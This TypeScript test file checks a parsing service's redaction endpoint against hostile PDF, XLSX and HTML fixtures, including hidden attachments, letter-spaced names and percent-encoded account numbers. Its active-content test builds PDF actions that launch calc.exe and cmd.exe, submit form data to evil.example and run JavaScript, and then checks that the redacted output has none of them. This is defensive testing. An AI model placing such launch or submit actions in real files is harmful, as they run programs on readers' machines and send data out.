/**
 * Redaction of hostile documents over real HTTP (issue 29, items 1-4): POST /v1/parse with
 * redact=true must return a copy that holds neither the holder's name nor the account number
 * anywhere - not in the text two independent extractors read (pdf.js, poppler's pdftotext), not in
 * any object or inflated stream of the file, not in an attached file (`pdfdetach -list`), not in a
 * workbook part - and no action that runs, launches or submits. The fixtures are built here.
 */
import { describe, expect, test } from "bun:test";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import JSZip from "jszip";
import ExcelJS from "exceljs";
import { PDFDocument, PDFName, PDFString, StandardFonts, type PDFRef } from "pdf-lib";
import { expectNoLeaks, leaks, pdftotextText } from "../engine/redact-support.ts";
import { rawPdfText } from "../engine/raw-pdf-scan.ts";
import { startTestServer } from "../helpers/server.ts";
import { form, newKey, post } from "../jobs/support/http.ts";

const server = await startTestServer({ WORKERS: "2", TEST_MONTHLY_CAP: "100000" });

const NAME = "ADEYEMI OLUWASEUN";
const ACCOUNT = "2079135791";
const NEEDLES = [NAME, ACCOUNT];

const esc = (s: string) => s.replace(/[\\()]/g, "\\$&");

/** A one-page statement (header fields and a small table) with `extra` content operators and hooks on the document. */
async function statementPdf(extra: string, decorate?: (doc: PDFDocument, page: ReturnType<PDFDocument["addPage"]>) => void | Promise<void>): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const ctx = doc.context;
  const helv = await doc.embedFont(StandardFonts.Helvetica);
  const page = doc.addPage([595, 842]);
  page.node.set(PDFName.of("Resources"), ctx.obj({ Font: { F1: helv.ref } }));
  const row = (y: number, cells: string[]) => cells.map((c, i) => `BT /F1 8 Tf 1 0 0 1 ${[50, 120, 360, 430, 500][i]} ${y} Tm (${esc(c)}) Tj ET`).join("\n");
  const content = [
    `BT /F1 9 Tf 50 760 Td (Account Name:) Tj 80 0 Td (${NAME}) Tj ET`,
    `BT /F1 9 Tf 50 746 Td (Account Number:) Tj 80 0 Td (${ACCOUNT}) Tj ET`,
    `BT /F1 9 Tf 300 760 Td (Statement Period:) Tj 80 0 Td (01/05/2026 - 31/05/2026) Tj ET`,
    row(620, ["Date", "Narration", "Debit", "Credit", "Balance"]),
    row(604, ["01/05/2026", "Opening Balance", "", "", "100,000.00"]),
    row(588, ["02/05/2026", "POS PURCHASE SHOPRITE", "12,500.50", "", "87,499.50"]),
    row(572, ["03/05/2026", "SALARY MAY 2026", "", "300,000.00", "387,499.50"]),
    extra,
  ].join("\n");
  page.node.set(PDFName.of("Contents"), ctx.obj([ctx.register(ctx.flateStream(content))]));
  await decorate?.(doc, page);
  return doc.save();
}

async function redactOverHttp(bytes: Uint8Array, filename = "statement.pdf"): Promise<Uint8Array> {
  const { key } = await newKey(server);
  const res = await post(server, "/v1/parse", key, form(bytes, { redact: "true" }, filename));
  expect(res.status).toBe(200);
  return new Uint8Array(await res.arrayBuffer());
}

/** Files `pdfdetach -list` reports (it reads the name tree and FileAttachment annotations). */
async function attachedFiles(bytes: Uint8Array): Promise<number> {
  // pdfdetach seeks in its input, so it reads a temporary file (the test's output, not an upload).
  const dir = mkdtempSync(join(tmpdir(), "redact-detach-"));
  try {
    const file = join(dir, "out.pdf");
    writeFileSync(file, bytes);
    const proc = Bun.spawn(["pdfdetach", "-list", file], { stdout: "pipe", stderr: "pipe" });
    const out = await new Response(proc.stdout).text();
    expect(await proc.exited).toBe(0);
    return Number(/^(\d+) embedded files?/m.exec(out)?.[1] ?? "NaN");
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

/** Both extractors, the raw scan of every object and inflated stream, and no attachment left; the statement's other text kept. */
async function expectClean(bytes: Uint8Array): Promise<void> {
  await expectNoLeaks(bytes, NEEDLES);
  const text = await pdftotextText(bytes);
  for (const kept of ["POS PURCHASE SHOPRITE", "12,500.50", "387,499.50", "Statement Period"]) expect(text).toContain(kept);
  const raw = rawPdfText(bytes);
  for (const n of NEEDLES) expect({ needle: n, inRawObjects: leaks(raw, n) }).toEqual({ needle: n, inRawObjects: false });
  expect(await attachedFiles(bytes)).toBe(0);
}

describe("item 1: attached files wherever they hang", () => {
  test("a FileAttachment annotation's file and the catalog's /AF file are dropped (and a percent-encoded number in a link)", async () => {
    const secret = new TextEncoder().encode(`Statement of ${NAME}, account ${ACCOUNT}\n`);
    const original = await statementPdf("", (doc, page) => {
      const ctx = doc.context;
      const embedded = (name: string) => {
        const file = ctx.register(ctx.stream(secret, { Type: "EmbeddedFile", Subtype: "text/plain" }));
        return ctx.register(ctx.obj({ Type: "Filespec", F: PDFString.of(name), UF: PDFString.of(name), EF: { F: file }, AFRelationship: "Source" }));
      };
      const annot = ctx.register(ctx.obj({ Type: "Annot", Subtype: "FileAttachment", Rect: [500, 800, 520, 820], FS: embedded("annot.txt"), Contents: PDFString.of("copy"), Name: "Paperclip" }));
      // A link whose URI spells the account number percent-encoded.
      const encoded = ACCOUNT.split("").map((d) => `%3${d}`).join("");
      const link = ctx.register(ctx.obj({ Type: "Annot", Subtype: "Link", Rect: [50, 30, 150, 40], A: { S: "URI", URI: PDFString.of(`https://bank.example/a?acct=${encoded}`) } }));
      page.node.set(PDFName.of("Annots"), ctx.obj([annot, link]));
      doc.catalog.set(PDFName.of("AF"), ctx.obj([embedded("associated.txt")]));
      page.node.set(PDFName.of("AF"), ctx.obj([embedded("page-associated.txt")]));
    });
    expect(await attachedFiles(original)).toBeGreaterThanOrEqual(1);
    expect(leaks(rawPdfText(original), ACCOUNT)).toBe(true);
    await expectClean(await redactOverHttp(original));
  });
});

describe("item 2: letter-spaced names", () => {
  test("a name drawn with 6 Tc is removed", async () => {
    const original = await statementPdf(`BT /F1 9 Tf 50 700 Td 6 Tc (PREPARED FOR ${NAME}) Tj 0 Tc ET`);
    await expectClean(await redactOverHttp(original));
  });

  test("a name drawn letter by letter with TJ kerning is removed", async () => {
    const spaced = [...`PREPARED FOR ${NAME}`].map((c) => `(${c})`).join(" -600 ");
    const original = await statementPdf(`BT /F1 9 Tf 50 700 Td [${spaced}] TJ ET`);
    await expectClean(await redactOverHttp(original));
  });
});

describe("item 4: active content at any depth", () => {
  test("Launch, SubmitForm and JavaScript in a link's direct /A and in /Next chains are removed", async () => {
    const original = await statementPdf("", (doc, page) => {
      const ctx = doc.context;
      const js = (code: string) => ({ S: "JavaScript", JS: PDFString.of(code) });
      const link = ctx.register(
        ctx.obj({
          Type: "Annot",
          Subtype: "Link",
          Rect: [50, 30, 150, 40],
          // Direct action dictionary with a chain three deep: URI -> Launch -> [SubmitForm -> JavaScript].
          A: {
            S: "URI",
            URI: PDFString.of("https://bank.example/help"),
            Next: { S: "Launch", F: PDFString.of("calc.exe"), Next: [{ S: "SubmitForm", F: { FS: "URL", F: PDFString.of("https://evil.example/collect") }, Next: js("app.alert(1)") }] },
          },
        }),
      );
      const link2 = ctx.register(ctx.obj({ Type: "Annot", Subtype: "Link", Rect: [50, 50, 150, 60], A: { S: "Launch", F: PDFString.of("cmd.exe"), Win: { F: PDFString.of("cmd.exe") } } }));
      page.node.set(PDFName.of("Annots"), ctx.obj([link, link2]));
      // An outline item whose action chain ends in JavaScript.
      const outlines = ctx.nextRef();
      const item: PDFRef = ctx.register(ctx.obj({ Title: PDFString.of("Summary"), Parent: outlines, A: { S: "GoTo", D: [page.ref, "Fit"], Next: js("this.submitForm('https://evil.example')") } }));
      ctx.assign(outlines, ctx.obj({ Type: "Outlines", First: item, Last: item, Count: 1 }));
      doc.catalog.set(PDFName.of("Outlines"), outlines);
    });
    const raw0 = rawPdfText(original);
    expect(raw0).toContain("/Launch");
    const bytes = await redactOverHttp(original);
    await expectClean(bytes);
    const raw = rawPdfText(bytes);
    for (const s of ["/Launch", "/SubmitForm", "/JavaScript", "/JS", "calc.exe", "cmd.exe", "evil.example", "app.alert"]) expect({ s, present: raw.includes(s) }).toEqual({ s, present: false });
    // The harmless link survives.
    expect(raw).toContain("bank.example/help");
  });
});

async function statementWorkbook(decorate: (ws: ExcelJS.Worksheet) => void): Promise<Uint8Array> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet("Statement");
  ws.addRow(["Account Name", NAME]);
  ws.addRow(["Account Number", ACCOUNT]);
  ws.addRow(["Period", "01/05/2026 - 31/05/2026"]);
  ws.addRow([]);
  ws.addRow(["Date", "Narration", "Debit", "Credit", "Balance"]);
  ws.addRow(["01/05/2026", "Opening Balance", "", "", "100,000.00"]);
  ws.addRow(["02/05/2026", "POS PURCHASE SHOPRITE", "12,500.50", "", "87,499.50"]);
  ws.addRow(["03/05/2026", "SALARY MAY 2026", "", "300,000.00", "387,499.50"]);
  decorate(ws);
  return new Uint8Array((await wb.xlsx.writeBuffer()) as ArrayBuffer);
}

/** Every part of a workbook as text, with XML entities and percent-encoding decoded. */
async function workbookText(bytes: Uint8Array): Promise<string> {
  const zip = await JSZip.loadAsync(bytes);
  const parts: string[] = [];
  for (const f of Object.values(zip.files)) if (!f.dir) parts.push(await f.async("string"));
  const text = parts.join("\n").replace(/&amp;/g, "&").replace(/&#(\d+);/g, (_, d: string) => String.fromCharCode(Number(d)));
  return text.replace(/%([0-9a-f]{2})/gi, (_, h: string) => String.fromCharCode(parseInt(h, 16)));
}

describe("item 3: XLSX notes, hyperlinks and data-validation prompts; percent-encoding in HTML", () => {
  test("notes, hyperlink targets and validation prompts carry no personal data", async () => {
    const original = await statementWorkbook((ws) => {
      ws.getCell("C6").note = `Checked for ${NAME}`;
      ws.getCell("F7").value = { text: "Contact us", hyperlink: `mailto:adeyemi.oluwaseun@example.com?subject=${ACCOUNT}` };
      ws.getCell("F8").value = { text: "Details", hyperlink: `https://bank.example/acct?no=%3${ACCOUNT.split("").join("%3")}` };
      ws.getCell("E6").dataValidation = { type: "list", allowBlank: true, formulae: ['"A,B"'], showInputMessage: true, promptTitle: NAME, prompt: `Account ${ACCOUNT}`, showErrorMessage: true, errorTitle: "No", error: `Only ${NAME}` };
    });
    const before = await workbookText(original);
    expect(leaks(before, ACCOUNT) && leaks(before, NAME)).toBe(true);
    const { key } = await newKey(server);
    const res = await post(server, "/v1/parse", key, form(original, { redact: "true" }, "statement.xlsx"));
    expect(res.status).toBe(200);
    const text = await workbookText(new Uint8Array(await res.arrayBuffer()));
    for (const n of [...NEEDLES, "adeyemi.oluwaseun@example.com"]) expect({ n, leaked: leaks(text, n) }).toEqual({ n, leaked: false });
    // The statement itself is still there.
    expect(text).toContain("POS PURCHASE SHOPRITE");
  });

  test("percent-encoded digits in an HTML attribute are decoded before the search", async () => {
    const enc = ACCOUNT.split("").map((d) => `%3${d}`).join("");
    const html = `<html><body><table>
<tr><td>Account Name</td><td>${NAME}</td></tr>
<tr><td>Account Number</td><td>${ACCOUNT}</td></tr>
<tr><td>Period</td><td>01/05/2026 - 31/05/2026</td></tr>
<tr><td>Date</td><td>Narration</td><td>Debit</td><td>Credit</td><td>Balance</td></tr>
<tr><td>01/05/2026</td><td><a href="https://bank.example/a?n=${enc}">Opening Balance</a></td><td></td><td></td><td>100,000.00</td></tr>
<tr><td>02/05/2026</td><td>POS PURCHASE SHOPRITE</td><td>12,500.50</td><td></td><td>87,499.50</td></tr>
</table></body></html>`;
    const { key } = await newKey(server);
    const res = await post(server, "/v1/parse", key, form(new TextEncoder().encode(html), { redact: "true" }, "statement.xls"));
    expect(res.status).toBe(200);
    const out = await res.text();
    expect(leaks(out.replace(/%([0-9a-f]{2})/gi, (_, h: string) => String.fromCharCode(parseInt(h, 16))), ACCOUNT)).toBe(false);
    expect(out).toContain("POS PURCHASE SHOPRITE");
  });
});
